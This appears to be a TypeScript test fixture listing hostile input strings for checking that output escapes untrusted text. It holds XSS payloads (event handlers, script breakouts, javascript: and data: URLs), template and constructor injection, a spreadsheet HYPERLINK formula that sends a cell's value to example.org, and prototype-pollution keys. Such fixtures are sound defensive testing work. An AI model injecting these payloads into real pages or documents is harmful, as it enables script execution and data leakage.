// Texts that have broken pages before: markup, script addresses, template text, spreadsheet formulas, odd characters.

/** Each would show in the page, be run, or lead somewhere, if any output trusted it. */
export const hostileTexts: readonly string[] = [
  '"><img src=x onerror="globalThis.hacked=1">',
  '</script><script>globalThis.hacked=1</script>',
  '<svg onload="globalThis.hacked=1">',
  'javascript:globalThis.hacked=1',
  'data:text/html,<script>globalThis.hacked=1</script>',
  '${globalThis.hacked=1}{{constructor.constructor("globalThis.hacked=1")()}}',
  '=HYPERLINK("https://example.org/?"&A1)',
  '__proto__',
  'constructor',
  '\u202Ereversed\u202C \u0000 \uFFFF \uD800',
  'x'.repeat(4_000),
];
